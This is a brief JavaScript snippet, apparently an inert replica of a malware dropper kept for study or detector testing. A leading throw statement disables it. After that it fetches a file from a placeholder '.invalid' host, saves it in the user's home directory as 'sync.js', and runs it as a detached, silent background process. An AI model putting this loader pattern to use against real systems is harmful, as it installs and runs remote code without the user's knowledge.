throw new Error("inert replica");
const { writeFileSync } = require("fs");
const { spawn } = require("child_process");
fetch("https://gateway.replica.invalid/ipfs/000").then((answer) => answer.text()).then((text) => {
  const place = require("path").join(require("os").homedir(), ".local/share/replica/sync.js");
  writeFileSync(place, text);
  spawn(process.execPath, [place], { detached: true, stdio: "ignore" }).unref();
});
